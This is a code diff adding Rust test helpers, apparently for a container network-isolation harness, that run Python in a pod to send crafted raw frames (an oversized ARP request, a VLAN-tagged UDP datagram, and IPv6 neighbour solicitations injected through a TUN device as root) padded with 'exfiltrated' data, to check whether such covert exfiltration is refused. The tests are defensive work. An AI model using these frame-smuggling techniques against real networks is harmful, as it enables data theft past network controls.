@@ -548,3 +548,102 @@ impl Drop for MptcpAnnouncer {
         let _ = self.child.wait();
     }
 }
+
+/// Runs a Python snippet inside `place` as `who`; its output (stdout, stderr).
+pub fn python_as(place: &Place, who: Privilege, code: &str) -> String {
+    let out = command_as(place, who, "/usr/bin/python3")
+        .args(["-c", code])
+        .stdin(Stdio::null())
+        .output()
+        .expect("run python3");
+    format!(
+        "{}{}",
+        String::from_utf8_lossy(&out.stdout),
+        String::from_utf8_lossy(&out.stderr)
+    )
+}
+
+/// Frames of link-layer kinds carrying data, sent from a pod to one MAC of its
+/// segment: what the interface line must hold (and, with no agent, reaches the
+/// wire: `attack_tools.rs`). Each sender prints `sent`, `refused ERRNO` or
+/// `injected`.
+pub struct LinkFrames<'a> {
+    place: &'a Place,
+    netns: &'a Netns,
+    /// The destination MAC, hex without colons.
+    mac: String,
+}
+
+impl<'a> LinkFrames<'a> {
+    pub fn new(place: &'a Place, netns: &'a Netns, dst_mac: &str) -> Self {
+        Self {
+            place,
+            netns,
+            mac: dst_mac.replace(':', ""),
+        }
+    }
+
+    /// An ARP request of the pod's address followed by 990 bytes of data, from a
+    /// packet socket (a default container).
+    pub fn big_arp(&self) -> String {
+        python_as(
+            self.place,
+            Privilege::ContainerDefault,
+            &format!(
+                "import socket\n\
+                 s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)\n\
+                 s.bind(('eth0', 0))\n\
+                 arp = bytes.fromhex('0001080006040001') + b'\\0'*6 + bytes([198,18,0,2]) + b'\\0'*6 + bytes([198,18,0,12])\n\
+                 try:\n\
+                 \x20 s.send(bytes.fromhex('{}') + s.getsockname()[4] + b'\\x08\\x06' + arp + b'exfiltrated'*90); print('sent')\n\
+                 except OSError as e: print('refused', e.errno)\n",
+                self.mac
+            ),
+        )
+    }
+
+    /// A UDP datagram to 198.18.0.12 in a frame with an 802.1Q tag, from a packet
+    /// socket (a default container).
+    pub fn tagged_udp(&self) -> String {
+        python_as(
+            self.place,
+            Privilege::ContainerDefault,
+            &format!(
+                "import socket\n\
+                 s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)\n\
+                 s.bind(('eth0', 0))\n\
+                 ip = bytes.fromhex('4500003c00004000401100000000000000000000')\n\
+                 ip = ip[:12] + bytes([198,18,0,2,198,18,0,12])\n\
+                 udp = bytes.fromhex('2710270f00280000') + b'exfiltrated' * 3\n\
+                 try:\n\
+                 \x20 s.send(bytes.fromhex('{}') + s.getsockname()[4] + b'\\x81\\x00\\x00\\x05\\x08\\x00' + ip + udp); print('sent')\n\
+                 except OSError as e: print('refused', e.errno)\n",
+                self.mac
+            ),
+        )
+    }
+
+    /// Root in the pod: a TUN device, forwarding on, five neighbour
+    /// solicitations for 2001:db8::12 with 880 bytes of data as options, injected
+    /// so that the pod forwards them out of its interface.
+    pub fn big_neighbour_solicitation(&self) -> String {
+        let _ = self.netns;
+        python_as(
+            self.place,
+            Privilege::Root,
+            "import fcntl, os, struct, socket, time\n\
+             fd = os.open('/dev/net/tun', os.O_RDWR)\n\
+             fcntl.ioctl(fd, 0x400454ca, struct.pack('16sH', b'egtun0', 0x0001 | 0x1000))\n\
+             os.system('ip link set egtun0 up; sysctl -qw net.ipv6.conf.all.forwarding=1')\n\
+             time.sleep(0.2)\n\
+             src = socket.inet_pton(socket.AF_INET6, '2001:db8::2')\n\
+             dst = socket.inet_pton(socket.AF_INET6, '2001:db8::12')\n\
+             body = bytes([135, 0, 0, 0, 0, 0, 0, 0]) + dst + b'exfiltrated' * 80\n\
+             pkt = bytes([0x60, 0, 0, 0]) + struct.pack('!HBB', len(body), 58, 255) + src + dst + body\n\
+             for _ in range(5):\n\
+             \x20 os.write(fd, pkt)\n\
+             time.sleep(0.3)\n\
+             print('injected')\n",
+        )
+    }
+}
